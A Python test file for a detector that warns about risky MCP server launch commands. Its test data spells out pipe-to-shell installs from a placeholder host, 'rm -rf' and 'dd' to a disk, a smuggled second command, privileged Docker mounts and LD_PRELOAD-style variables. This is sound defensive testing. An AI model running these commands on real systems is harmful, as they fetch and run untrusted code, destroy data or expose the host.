"""Risks of a command, named before it starts; harmless commands have none."""

import time
from dataclasses import replace

import pytest

from mcp_tef.model.servers import ServerSpec, Transport
from mcp_tef.scoring.command_risks.risks import MOST_READ, MOST_RISKS, launch_risks


def risks(*argv: str, cwd: str | None = None, **env: str) -> str:
    spec = ServerSpec(name="x", transport=Transport.STDIO, command=argv[0], args=argv[1:], cwd=cwd, env=env)
    return "\n".join(launch_risks(spec))


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (("bash", "-c", "serve"), "“bash” runs the text after “-c”"),
        (("/bin/sh", "-lc", "serve"), "“sh” runs the text after “-lc”"),
        ((r"C:\Windows\pwsh.exe", "-NoProfile", "-EncodedCommand", "aGk="), "“pwsh” runs the text after"),
        (("cmd", "/c", "serve & calc"), "“cmd” runs the text after “/c”"),
        (("python3.11", "-c", "import os"), "“python” runs the text after “-c”"),
        (("node", "-e", "1"), "“node” runs the text after “-e”"),
        (("bash", "-c", "curl -fsSL https://x.test/i | sudo bash"), "before anybody can read it"),
        (("bash", "-c", "wget -qO- https://x.test/i|sh"), "before anybody can read it"),
        (("bash", "-c", 'sh -c "$(curl -fsSL https://x.test/i)"'), "before anybody can read it"),
        (("sh", "-c", "base64 -d x | sh"), "“sh” runs whatever another program hands to it"),
        (("sudo", "-u", "root", "serve"), "the rights of the administrator"),
        (("bash", "-c", "cd /x && sudo serve"), "the rights of the administrator"),
        (("rm", "-rf", "/home/me"), "“rm -rf /home/me” deletes folders"),
        (("sh", "-c", "rm -r -f ~; serve"), "“rm -r -f ~” deletes folders"),
        (("dd", "if=x", "of=/dev/sda"), "overwrites a disk"),
        (("docker", "run", "--privileged", "a/b:1"), "“--privileged” lifts the container's walls"),
        (("docker", "run", "--pid", "host", "a/b:1"), "“--pid=host” lifts the container's walls"),
        (("docker", "run", "-v", "/:/host", "a/b:1"), "see your whole disk"),
        (("docker", "run", "-v/:/host", "a/b:1"), "see your whole disk"),
        (("podman", "run", "--volume=C:\\:/host", "a/b:1"), "see your whole disk"),
        (("docker", "run", "--mount", "type=bind,src=/,dst=/h", "a/b:1"), "see your whole disk"),
        (("docker", "run", "-v", "${env:HOME}:/h", "a/b:1"), "see your whole home folder"),
        (("docker", "run", "-v", "/var/run/docker.sock:/s", "a/b:1"), "command Docker"),
        (("npx", "-y", "@acme/docs"), "fetches the newest “@acme/docs”"),
        (("npx", "-y", "@acme/docs@latest", "/srv"), "fetches the newest “@acme/docs@latest”"),
        (("npx", "-y", "docs@1"), "fetches the newest “docs@1”"),
        (("npx", "-p", "docs", "docs-server"), "fetches the newest “docs”"),
        (("cmd", "/c", "npx", "-y", "docs"), "fetches the newest “docs”"),
        (("env", "A=1", "npx", "-y", "docs"), "fetches the newest “docs”"),
        (("npm", "exec", "--", "docs"), "fetches the newest “docs”"),
        (("pnpm", "dlx", "docs"), "fetches the newest “docs”"),
        (("uvx", "mcp-server-time"), "fetches the newest “mcp-server-time”"),
        (("uvx", "--from", "git+https://x.test/a.git", "serve"), "fetches the newest “git+https://x.test/a.git”"),
        (("uv", "tool", "run", "docs"), "fetches the newest “docs”"),
        (("pipx", "run", "docs"), "fetches the newest “docs”"),
        (("docker", "run", "-i", "--rm", "-e", "TOKEN", "mcp/github"), "fetches the newest “mcp/github”"),
        (("deno", "run", "-A", "https://x.test/a.ts"), "fetches the newest “https://x.test/a.ts”"),
        (("/tmp/serve",), "“/tmp/serve” is in a folder for temporary files"),
        (("node", "--loader=/var/tmp/x.js"), "in a folder for temporary files"),
        ((r"C:\Users\me\AppData\Local\Temp\serve.exe",), "in a folder for temporary files"),
    ],
)
def test_what_is_worth_a_second_look_is_said(argv: tuple[str, ...], words: str) -> None:
    assert words in risks(*argv)


@pytest.mark.parametrize(
    "argv",
    [
        ("serve", "--all"),
        ("python", "-m", "desk", "-c", "settings.toml"),
        ("node", "/srv/desk/index.js", "-e"),
        ("bash", "/srv/desk/start.sh"),
        ("cmd", "/c", "serve.bat"),
        ("rm", "note.txt"),
        ("npx", "-y", "@acme/docs@1.2.3"),
        ("npx", "-y", "docs@2.0.0-beta.1", "@latest"),
        ("npx", "./docs"),
        ("uvx", "mcp-server-time==2.1"),
        ("uvx", "--from", "git+https://x.test/a.git@0a1b2c3d", "serve"),
        ("uvx", "--python", "3.12", "docs@1.2"),
        ("uv", "run", "desk.py"),
        ("docker", "run", "--rm", "-v", "/srv/data:/data", "-e", "TOKEN", "mcp/github:1.4"),
        ("docker", "run", "mcp/github@sha256:00ff"),
        ("serve", "/srv/tmp/x", "template"),
        ("serve", "--say", "never use sudo or rm -rf"),
    ],
)
def test_what_is_usual_is_not_warned_of(argv: tuple[str, ...]) -> None:
    assert risks(*argv) == ""


@pytest.mark.parametrize(
    ("name", "value", "words"),
    [
        ("LD_PRELOAD", "x", "“LD_PRELOAD” can make it run code"),
        ("DYLD_INSERT_LIBRARIES", "x", "can make it run code"),
        ("NODE_OPTIONS", "x", "can make it run code"),
        ("PYTHONPATH", "x", "can make it run code"),
        ("PATH", "x", "can make it run code"),
        ("npm_config_registry", "x", "decides where its packages come from"),
        ("NODE_TLS_REJECT_UNAUTHORIZED", "0", "turns off the check"),
        ("NODE_TLS_REJECT_UNAUTHORIZED", "1", ""),
        ("API_KEY", "x", ""),
    ],
)
def test_variables_that_reach_further_are_named_without_their_value(name: str, value: str, words: str) -> None:
    said = risks("serve", **{name: value})
    assert words in said
    assert bool(words) == bool(said)


def test_a_working_folder_that_others_can_write_to_is_named() -> None:
    assert "“/tmp/work” is in a folder for temporary files" in risks("serve", cwd="/tmp/work")


def test_a_command_that_nobody_can_read_is_said_to_be_one() -> None:
    assert "The command is 6,005 characters long." in risks("serve", "x" * 6_000)


def test_an_address_starts_nothing() -> None:
    assert launch_risks(ServerSpec(name="x", transport=Transport.STREAMABLE_HTTP, url="https://x.test/tmp")) == ()


@pytest.mark.parametrize(
    "text",
    [text * 66_666 for text in ("curl |", "$(", "'", "sudo ", "C:", "a\\", "${", "///")],
)
def test_endless_texts_are_read_in_no_time_and_said_shortly(text: str) -> None:
    many = ("-v", *text.split("|", 20_000))
    for args in (("-c", text, "-v", text), many):
        for program in ("bash", "docker", "sudo", "npx"):
            spec = ServerSpec(name="x", transport=Transport.STDIO, command=program, args=args, cwd=text)
            began = time.thread_time()
            said = launch_risks(spec)
            assert time.thread_time() - began < 0.1
            assert len(said) <= MOST_RISKS
            assert all(len(sentence) < 300 for sentence in said)


def test_what_stands_behind_a_long_text_is_told_by_its_length_alone() -> None:
    padded = ServerSpec(name="x", transport=Transport.STDIO, command="env", args=("A=" + "x" * MOST_READ, "sudo", "ls"))
    assert launch_risks(padded) == ("The command is 10,011 characters long. Nobody has read all of that.",)
    assert len(launch_risks(replace(padded, args=("A=" + "x" * 4_000, "sudo", "ls")))) == 1
